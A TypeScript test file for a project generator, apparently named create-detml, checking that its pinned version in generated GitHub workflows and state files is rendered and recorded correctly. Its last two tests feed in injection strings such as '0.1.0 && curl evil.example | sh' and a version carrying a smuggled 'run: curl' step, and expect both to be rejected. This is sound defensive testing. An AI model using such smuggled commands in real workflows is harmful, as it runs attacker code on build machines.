// Generated projects pin the create-detml version that rendered them, and that version is a recorded render input:
// create takes it from the running package, sync re-renders the old version with the one in the state file and
// records the version of the package its new templates came from.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderPair } from '../../sync/render-pair.ts';
import { parseState, type DetmlState } from '../../src/state/state-file.ts';
import { resolveAnswers } from '../../src/templates/answers.ts';
import { availableTemplates, resolveTemplate } from '../../src/templates/registry.ts';
import { renderedBytes, renderTemplate, type RenderedFile } from '../../src/templates/render.ts';
import { GENERATOR_VERSION } from '../../src/version.ts';
import { ROOT } from '../helpers/paths.ts';
import { runCli } from '../helpers/run-cli.ts';
import { tempDir } from '../helpers/tmp.ts';

const pins = (files: RenderedFile[]) =>
  files
    .filter((f) => f.path.startsWith('.github/workflows/'))
    .flatMap((f) =>
      [
        ...renderedBytes(f)
          .toString('utf8')
          .matchAll(/create-detml@(\S+)/g),
      ].map((m) => `${f.path} ${m[1]}`),
    )
    .sort();

describe('the pinned create-detml version', () => {
  it('is the package version, taken from package.json in one place', () => {
    expect(GENERATOR_VERSION).toBe(
      (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { version: string }).version,
    );
  });

  it.each(availableTemplates())('%s: every workflow pin is the render input, nothing is hard-coded', (id) => {
    const { dir, manifest } = resolveTemplate(id);
    const answers = resolveAnswers(manifest, {});
    const found = pins(renderTemplate(dir, answers, manifest, { generatorVersion: '7.8.9' }));
    expect(found).toEqual(['.github/workflows/ci.yml 7.8.9', '.github/workflows/detml-sync.yml 7.8.9']);
  });

  it('create pins the running package version and records it in the state file', async () => {
    const cwd = tempDir();
    const result = await runCli(['app', '--template', 'vllm', '--yes', '--no-git', '--no-install'], {
      cwd,
      timeoutMs: 60_000,
    });
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const read = (p: string) => readFileSync(join(cwd, 'app', p));
    expect(
      pins(
        ['.github/workflows/ci.yml', '.github/workflows/detml-sync.yml'].map((path) => ({
          path,
          mode: 0o644 as const,
          contents: read(path),
        })),
      ),
    ).toEqual([
      `.github/workflows/ci.yml ${GENERATOR_VERSION}`,
      `.github/workflows/detml-sync.yml ${GENERATOR_VERSION}`,
    ]);
    expect(parseState(read('.detml/state.json').toString('utf8'), 'state').generator.version).toBe(GENERATOR_VERSION);
  });

  it("sync re-renders the old version with the recorded generator version and the new one with the target's", () => {
    const template = resolveTemplate('onnx');
    const answers = resolveAnswers(template.manifest, {});
    const created = renderTemplate(template.dir, answers, template.manifest, { generatorVersion: '0.5.0' });
    const state = {
      schema: 1,
      generator: { name: 'create-detml', version: '0.5.0' },
      template: { id: 'onnx', version: template.manifest.version },
      answers,
      files: {},
    } as DetmlState;
    const pair = renderPair(state, template, template, { seed: 99 }, '0.6.0');
    expect(pair.old).toEqual(created); // byte for byte what create wrote, so sync sees no template change there
    expect(pins(pair.next)).toEqual(['.github/workflows/ci.yml 0.6.0', '.github/workflows/detml-sync.yml 0.6.0']);
  });

  it('a generator version that is not a plain version never reaches a rendered workflow', () => {
    const { dir, manifest } = resolveTemplate('onnx');
    expect(() =>
      renderTemplate(dir, resolveAnswers(manifest, {}), manifest, {
        generatorVersion: '1.0.0\n        run: curl evil.example',
      }),
    ).toThrow('Generator version "1.0.0\\n        run: curl evil.example" is not a semver version.');
  });

  it('a state file whose generator version is not a plain version is refused before it reaches a workflow or npm', () => {
    const state = (version: string) =>
      JSON.stringify({
        schema: 1,
        generator: { name: 'create-detml', version },
        template: { id: 'onnx', version: '1.3.0' },
        answers: {},
        files: {},
      });
    expect(() => parseState(state('0.1.0 && curl evil.example | sh'), 's.json')).toThrow(
      's.json is corrupt: $.generator.version: must be a semver version like 1.2.3',
    );
    expect(() => parseState(state('file:../evil'), 's.json')).toThrow(/\$.generator.version: must be a semver/);
    expect(parseState(state('1.0.0-rc.1'), 's.json').generator.version).toBe('1.0.0-rc.1');
  });
});
